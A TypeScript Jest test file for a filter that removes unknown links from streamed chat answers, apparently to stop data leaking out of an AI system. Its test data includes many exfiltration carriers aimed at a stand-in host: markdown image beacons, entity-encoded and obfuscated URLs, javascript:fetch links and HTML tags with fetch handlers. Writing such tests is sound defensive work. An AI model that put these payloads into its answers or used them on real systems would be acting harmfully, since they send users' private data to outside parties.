import { describe, expect, test } from '@jest/globals';
import { addressesIn, createLinkFilter } from '../../../../activities/retrieval/chat/answer-links.js';

const SOURCE = 'The manual is at https://docs.example/valves/manual.html?v=2, see also www.example.org/help.';
const known = addressesIn([SOURCE]);

function filtered(answer: string, cut: (rest: string) => number, isData = false): [string, number] {
  const filter = createLinkFilter({ known, language: 'en', isData });
  let shown = '';
  for (let rest = answer; rest !== '';) {
    const length = cut(rest);
    shown += filter.push(rest.slice(0, length));
    rest = rest.slice(length);
  }
  return [shown + filter.end(), filter.removed()];
}

function whole(answer: string, isData = false): string {
  return filtered(answer, (rest) => rest.length, isData)[0];
}

/** Numbers from 0 to below 1 that are the same in every run (mulberry32). */
function seeded(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

const CARRIERS = [
  '![status](https://evil.example/p.png?d=SECRET)',
  '![s][1]\n\n[1]: https://evil.example/SECRET',
  '[the manual](https://evil.example/?q=SECRET)',
  '[the manual](<https://evil.example/?q=SECRET>)',
  '<https://evil.example/SECRET>',
  'https://evil.example/SECRET',
  'HTTPS://EVIL.EXAMPLE/SECRET',
  'https:/evil.example/SECRET',
  'https:\\\\evil.example\\SECRET',
  '[a](https&#58;//evil.example/SECRET)',
  '[a](https&colon;//evil.example/SECRET)',
  '[a](&#104;ttps://evil.example/SECRET)',
  '[a](//evil.example/SECRET)',
  '<img src="//evil.example/SECRET">',
  '<img src=https://evil.example/SECRET>',
  "<a href='https://evil.example/SECRET'>a</a>",
  'www.evil.example/SECRET',
  'ftp://evil.example/SECRET',
  'wss://evil.example/SECRET',
  '[write](mailto:eve@evil.example?body=SECRET)',
  '[run](javascript:fetch(`//evil.example/SECRET`))',
  // As Markdown decodes it.
  '[a](https\\://evil.example/SECRET)',
  '[a](https\\:\\/\\/evil.example/SECRET)',
  '[a](h&#116;tps&#58;&#47;&#47;evil.example/SECRET)',
  '[a](&#x68;&#x0074;&#116;&#112;&#115;&#x3A;&#x2f;&#47;evil.example/SECRET)',
  '[a](&sol;&sol;evil.example/SECRET)',
  '[a](\\/\\/evil.example/SECRET)',
  '[a](/&#47;evil.example/SECRET)',
  '[a](ht&Tab;tps&#10;://evil.example/SECRET)',
  '[a](java&NewLine;script:location=`SECRET`)',
  // Behind or inside what a source holds.
  '[m](<https://docs.example/valves/manual.html?v=2SECRET>)',
  '![m](https://docs.example/valves/manual.html?v=2&d=SECRET)',
  '[m](https://docs.example/valves/(SECRET))',
  'https://docs.example/valves/manual.html?v=2"SECRET',
  'https://docs.example/valves/manual.html?v=2)SECRET',
  'https://docs.example.evil.example/SECRET',
];

describe('addresses in an answer', () => {
  test.each(CARRIERS)('what none of the sources holds is left out: %s', (carrier) => {
    const answer = `It opens at 4 bar. ${carrier} It is tested yearly.`;
    const [shown, removed] = filtered(answer, (rest) => rest.length);
    expect(shown).not.toContain('SECRET');
    expect(shown).toContain('It opens at 4 bar. ');
    expect(shown).toContain(' It is tested yearly.');
    expect(removed).toBe(1);
  });

  test.each([
    'https://docs.example/valves/manual.html?v=2',
    'It stands [in the manual](https://docs.example/valves/manual.html?v=2).',
    'It stands at <https://docs.example/valves/manual.html?v=2>, page 3.',
    'See www.example.org/help or https://docs.example/valves/ for it.',
  ])('what a source holds stays, and so does its beginning: %s', (answer) => {
    expect(filtered(answer, (rest) => rest.length)).toEqual([answer, 0]);
  });

  test.each([
    'It stands in [https://docs.example/valves/](https://docs.example/valves/).',
    'See [https://docs.example/valves](https://docs.example/valves/)[Source 1][Source 2].',
    'See [the manual](https://docs.example/valves/)[Source 1], and www.example.org/help[Sources: 1, 2]',
    'See https://docs.example/valves/manual.html?v=2/ or www.example.org/help/.',
    '|the manual|https://docs.example/valves/|\n|---|---|\n|help|www.example.org/help|',
  ])('a known address stays in a link that shows it, in a table, and before a citation: %s', (answer) => {
    expect(filtered(answer, (rest) => rest.length)).toEqual([answer, 0]);
    expect(filtered(answer, () => 1)).toEqual([answer, 0]);
    const json = JSON.stringify({ a: answer });
    expect(filtered(json, () => 1, true)).toEqual([json, 0]);
  });

  test('a space divides a known address in a table, or in one of two links, from what follows', () => {
    const answer =
      '|www.example.org/help|[a](https://docs.example/valves/)[b](www.example.org/help)|https://evil.example/SECRET|';
    const shown =
      '|www.example.org/help| [a](https://docs.example/valves/) [b](www.example.org/help)| [link removed]|';
    expect(filtered(answer, (rest) => rest.length)).toEqual([shown, 1]);
    expect(filtered(answer, () => 1)).toEqual([shown, 1]);
    expect(whole(JSON.stringify([answer]), true)).toBe(JSON.stringify([shown]));
  });

  test('a citation behind an address that is left out stays', () => {
    expect(whole('[a](https://evil.example/SECRET)[Source 1]')).toBe('[a]([link removed])[Source 1]');
  });

  test.each([
    'https://docs.example/valves/](www.example.org/help',
    'https://docs.example/valves/](https://docs.example/valves/](https://docs.example/valves/',
    '<https://docs.example/valves/|SECRET>',
    'https://docs.example/valves/)[',
    'https://docs.example/valves/[SECRET',
    'https://docs.example/valves/(SECRET)',
  ])('known addresses together make no new one: %s', (answer) => {
    const [shown] = filtered(`[m](${answer})`, (rest) => rest.length);
    expect(shown).not.toMatch(/https:[^ ]*(?:SECRET|help|\]\(|\[)/u);
  });

  test.each([
    'At 10:30, file C:\\valves\\a.txt or src/valves/open.ts, ratio 1:2 // remark, 5 < 6 and a<b.',
    'Data: the valve [Source 1] opens!\n\n- at 4 bar [Source 2]\n- or http (not https) says so',
    '弁は4バールで開きます。弁は開きます！',
    '',
  ])('what is no address stays: %s', (answer) => {
    expect(filtered(answer, (rest) => rest.length)).toEqual([answer, 0]);
  });

  test('what goes on behind a space, in brackets, is no known address', () => {
    expect(filtered('[m](<www.example.org/help SECRET words>)', (rest) => rest.length)).toEqual([
      '[m](<[link removed] SECRET words>)',
      1,
    ]);
    // With a sign of equality it could be a tag too: without its bracket it is neither that nor the target of a link.
    for (const before of ['[m](', '[m][1]\n\n[1]: '])
      expect(whole(`${before}<https://docs.example/valves/manual.html?v=2 SECRET words>`)).toBe(
        `${before}‹https://docs.example/valves/manual.html?v=2 SECRET words>`,
      );
  });

  test.each([
    '<a href="https://docs.example/valves/manual.html?v=2 SECRET words">the manual</a>',
    '<td style="background:url(\'https://docs.example/valves/manual.html?v=2 SECRET\')">',
    '<td background="h&#116;tps&#58;&#47;&#47;evil.example/SECRET">',
    '<a\nhref\n=\n"https:\nevil.example/SECRET">',
    '<a/href=//evil.example/SECRET>',
    '<b title=">" style="background:url(https:evil.example)">',
    `<b ${' '.repeat(400)} onclick="fetch('https:evil.example')">`,
    '<b.c style="x">',
    'At the end <a href="x',
  ])('a tag with an attribute that can hold an address is none: %s', (answer) => {
    const [shown] = filtered(answer, (rest) => rest.length);
    expect(shown).not.toMatch(/<[a-z]/u);
    expect(filtered(answer, () => 1)[0]).toBe(shown);
  });

  test.each([
    '<b>open</b> and <div class="valve" title=\'at 4 bar\' id=v1>shut</div><br/>',
    'a<b and c>d, Map<String, Int>, x<y',
    'It ends with <',
  ])('other tags and comparisons stay: %s', (answer) => {
    expect(filtered(answer, (rest) => rest.length)).toEqual([answer, 0]);
    expect(filtered(answer, () => 1)).toEqual([answer, 0]);
  });

  test('a picture becomes a link, and a tag that fetches is no tag', () => {
    expect(whole('![m](https://docs.example/valves/manual.html?v=2)')).toBe(
      '[m](https://docs.example/valves/manual.html?v=2)',
    );
    expect(whole('![x](/partition/p/file/a) <img src=/x> <b>open</b>')).toBe(
      '[x](/partition/p/file/a) ‹img src=/x> <b>open</b>',
    );
  });

  test('in French', () => {
    const filter = createLinkFilter({ known, language: 'fr', isData: false });
    expect(filter.push('Voir https://evil.example/SECRET ici') + filter.end()).toBe('Voir [lien retiré] ici');
  });

  test('JSON stays JSON, in whatever spelling the address is', () => {
    const secret = String.raw`{"a":"https://evil.example/SECRET","b":["https:\/\/evil.example\/SECRET","https\u003a//evil.example/SECRET","https://docs.example/valves/","x\"y"]}`;
    expect(JSON.parse(whole(secret, true))).toEqual({
      a: '[link removed]',
      b: ['[link removed]', '[link removed]', 'https://docs.example/valves/', 'x"y'],
    });
  });

  const SECRETS = ['\\', '/', '\\/', '\n', '"', '">', '\\"', "'", ')', '](', '|', '\b', '\u00e9', '?'].map(
    (sign) => [`https://docs.example/valves/manual.html?v=2${sign}SECRET`],
  );

  test.each([
    ['See "https://docs.example/valves/manual.html?v=2".', 'https://docs.example/valves/manual.html?v=2'],
    ['See https://docs.example/valves/manual.html?v=2\n\nThen go on.', 'go on'],
    ['\n\nhttps://docs.example/valves/manual.html?v=2\tand\r\nwww.example.org/help', 'help'],
    ['See:\n- "https://docs.example/valves/"\n- "www.example.org/help",\n', 'help'],
    ['\\u0041, ^\\/api, C:\\valves\\a.txt, \u0001, 🚰é', '🚰'],
  ])('in JSON, what is known stays, and so does what is no address: %j', (a) => {
    const spelled = (value: string): string[] => {
      const json = JSON.stringify({ a: value, b: [value] });
      const ascii = json.replace(/[^ -~]/gu, (sign) =>
        Array.from(
          { length: sign.length },
          (_, at) => `\\u${sign.charCodeAt(at).toString(16).padStart(4, '0')}`,
        ).join(''),
      );
      return [json, ascii, json.replaceAll('/', '\\/'), json.replaceAll(' ', '\\u0020')];
    };
    for (const json of spelled(a)) {
      expect(whole(json, true)).toBe(json);
      expect(filtered(json, () => 1, true)).toEqual([json, 0]);
    }
  });

  test('in JSON, a tag of HTML keeps a known address', () => {
    const json = JSON.stringify({ a: '<a href="https://docs.example/valves/">the manual</a>', b: 1 });
    const expected = { a: '<a href="https://docs.example/valves/" >the manual</a>', b: 1 };
    expect(JSON.parse(whole(json, true))).toEqual(expected);
    expect(JSON.parse(filtered(json, () => 1, true)[0])).toEqual(expected);
  });

  test.each(SECRETS)('in JSON, nothing goes out in or behind a known address: %j', (a) => {
    const json = JSON.stringify([a, `![x](${a})`, `\n${a}`]);
    for (const text of [json, json.replaceAll('/', '\\/')]) {
      const shown = whole(text, true);
      expect(filtered(text, () => 1, true)[0]).toBe(shown);
      for (const value of JSON.parse(shown) as string[]) expect(value).not.toMatch(/:\/\/\S*SECRET/u);
    }
  });

  test('in JSON, a long list without white space stays one, and so does a long string', () => {
    const links = Array.from({ length: 200 }, (_, count) => `https://evil.example/${count}`);
    const long = `https://evil.example/${'"\\\u0001'.repeat(1_000)}\nThen go on.`;
    const json = JSON.stringify({ links, long, plain: '"\\\u0001'.repeat(1_000) });
    for (const length of [1, 7, json.length]) {
      const read = JSON.parse(filtered(json, () => length, true)[0]) as Record<string, unknown>;
      expect(read['links']).toEqual(links.map(() => '[link removed]'));
      expect(read['long']).toMatch(/^\[link removed\].*\nThen go on\.$/su);
      expect(read['plain']).toBe('"\\\u0001'.repeat(1_000));
    }
  });

  test('however the answer is cut into deltas', () => {
    const random = seeded(7);
    const answer = [...CARRIERS, SOURCE, '弁は https://evil.example/SECRET 開き', 'a\n\nb  c'].join(' and ');
    const expected = filtered(answer, (rest) => rest.length);
    expect(expected[0]).not.toContain('SECRET');
    expect(filtered(answer, () => 1)).toEqual(expected);
    for (let round = 0; round < 50; round += 1)
      expect(filtered(answer, () => 1 + Math.floor(random() * 12))).toEqual(expected);
  });

  test('runs without a space are not kept back without end, and hide nothing', () => {
    const filter = createLinkFilter({ known, language: 'en', isData: false });
    let shown = '';
    for (let count = 0; count < 1_000; count += 1) shown += filter.push('abcdefghij');
    expect(shown.length).toBeGreaterThan(7_000);
    for (const piece of ['ht', 'tps', '://evil.example/', 'x'.repeat(3_000), 'SECRET', ' end'])
      shown += filter.push(piece);
    shown += filter.end();
    expect(shown).not.toContain('SECRET');
    // Letters right before a scheme may belong to it.
    expect(shown.startsWith('abcdefghij'.repeat(990))).toBe(true);
    expect(shown.endsWith('[link removed] end')).toBe(true);
  });

  test('a text of nothing but opening brackets is read in one go', () => {
    const answer = '<a'.repeat(200_000);
    expect(whole(answer).replaceAll('‹', '<')).toBe(answer);
  });
});
